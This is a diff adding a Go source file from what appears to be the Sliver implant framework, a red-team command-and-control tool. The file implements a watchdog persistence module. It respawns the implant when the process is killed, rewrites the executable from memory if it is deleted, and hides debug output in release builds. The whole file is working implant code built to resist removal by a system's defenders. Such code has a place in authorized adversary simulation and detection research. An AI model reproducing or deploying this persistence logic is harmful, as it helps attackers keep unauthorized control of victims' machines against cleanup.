@@ -0,0 +1,218 @@
+package watchdog
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"os"
+	"os/exec"
+	"strconv"
+	"strings"
+	"time"
+)
+
+const (
+	// envName - Carries the role of the process between the implant and its watchdog,
+	// the name is randomized at generate time
+	envName = "{{.Config.WatchdogEnv}}"
+
+	roleWatchdog = "watchdog"
+	roleImplant  = "implant"
+
+	defaultDelay = 30 * time.Second
+
+	// Give up if the implant keeps dying, e.g. it's being killed on sight
+	maxRestarts   = 5
+	restartWindow = 10 * time.Minute
+)
+
+var (
+	delay = parseDelay(`{{.Config.WatchdogDelay}}`)
+
+	// watchdogPID - The pid of this implant's watchdog, 0 if there is none
+	watchdogPID int
+)
+
+// Start - Must be called before anything else, in the watchdog process this
+// supervises the implant and never returns. In the implant it starts the
+// watchdog unless the implant was (re)started by one.
+func Start() {
+	role, pid := parseRole(os.Getenv(envName))
+	os.Unsetenv(envName)
+	switch role {
+	case roleWatchdog:
+		supervise(pid)
+		os.Exit(0)
+	case roleImplant:
+		watchdogPID = pid
+	default:
+		watchdogPID = spawnWatchdog()
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[watchdog] pid %d", watchdogPID)
+	// {{end}}
+}
+
+// PID - The pid of the implant's watchdog, 0 if there is none
+func PID() int {
+	return watchdogPID
+}
+
+// Stop - Kill the watchdog so the implant can exit for good
+func Stop() {
+	if watchdogPID == 0 {
+		return
+	}
+	process, err := os.FindProcess(watchdogPID)
+	if err == nil {
+		err = process.Kill()
+	}
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[watchdog] failed to stop %d: %s", watchdogPID, err)
+		// {{end}}
+		return
+	}
+	watchdogPID = 0
+}
+
+// spawnWatchdog - Start a copy of ourselves in the watchdog role
+func spawnWatchdog() int {
+	executable, err := os.Executable()
+	if err != nil {
+		return 0
+	}
+	cmd := command(executable, roleWatchdog)
+	err = cmd.Start()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[watchdog] failed to start: %s", err)
+		// {{end}}
+		return 0
+	}
+	pid := cmd.Process.Pid
+	cmd.Process.Release()
+	return pid
+}
+
+// supervise - Wait for the implant to exit and restart it, the executable is read
+// up front so it can be re-staged if it's deleted along with the implant
+func supervise(pid int) {
+	executable, err := os.Executable()
+	if err != nil {
+		return
+	}
+	image, err := os.ReadFile(executable)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[watchdog] cannot re-stage %s: %s", executable, err)
+		// {{end}}
+		image = nil
+	}
+
+	wait := func() { waitExit(pid) }
+	restarts := []time.Time{}
+	for {
+		wait()
+		time.Sleep(delay)
+
+		restarts = recentRestarts(restarts, time.Now())
+		if maxRestarts <= len(restarts) {
+			// {{if .Config.Debug}}
+			log.Printf("[watchdog] implant restarted %d times in %s, giving up", len(restarts), restartWindow)
+			// {{end}}
+			return
+		}
+		restarts = append(restarts, time.Now())
+
+		restage(executable, image)
+		cmd := command(executable, roleImplant)
+		err := cmd.Start()
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("[watchdog] failed to restart implant: %s", err)
+			// {{end}}
+			wait = func() {}
+			continue
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[watchdog] restarted implant, pid %d", cmd.Process.Pid)
+		// {{end}}
+		wait = func() { cmd.Wait() }
+	}
+}
+
+// restage - Re-write the executable if it's gone
+func restage(executable string, image []byte) {
+	if _, err := os.Stat(executable); err == nil || len(image) == 0 {
+		return
+	}
+	err := os.WriteFile(executable, image, 0700)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[watchdog] failed to re-stage %s: %s", executable, err)
+		// {{end}}
+	}
+}
+
+// command - Run the executable with our arguments, telling it its role and our pid
+func command(executable string, role string) *exec.Cmd {
+	cmd := exec.Command(executable, os.Args[1:]...)
+	cmd.Env = append(os.Environ(), envName+"="+role+":"+strconv.Itoa(os.Getpid()))
+	cmd.SysProcAttr = sysProcAttr()
+	return cmd
+}
+
+// recentRestarts - The restarts that happened inside of the restart window
+func recentRestarts(restarts []time.Time, now time.Time) []time.Time {
+	recent := []time.Time{}
+	for _, restart := range restarts {
+		if now.Sub(restart) < restartWindow {
+			recent = append(recent, restart)
+		}
+	}
+	return recent
+}
+
+// parseRole - Parse the '<role>:<pid>' env value
+func parseRole(value string) (string, int) {
+	role, rawPID, found := strings.Cut(value, ":")
+	if !found {
+		return "", 0
+	}
+	pid, err := strconv.Atoi(rawPID)
+	if err != nil || pid <= 0 {
+		return "", 0
+	}
+	if role != roleWatchdog && role != roleImplant {
+		return "", 0
+	}
+	return role, pid
+}
+
+func parseDelay(value string) time.Duration {
+	nanoseconds, err := strconv.ParseInt(value, 10, 64)
+	if err != nil || nanoseconds < 0 {
+		return defaultDelay
+	}
+	return time.Duration(nanoseconds)
+}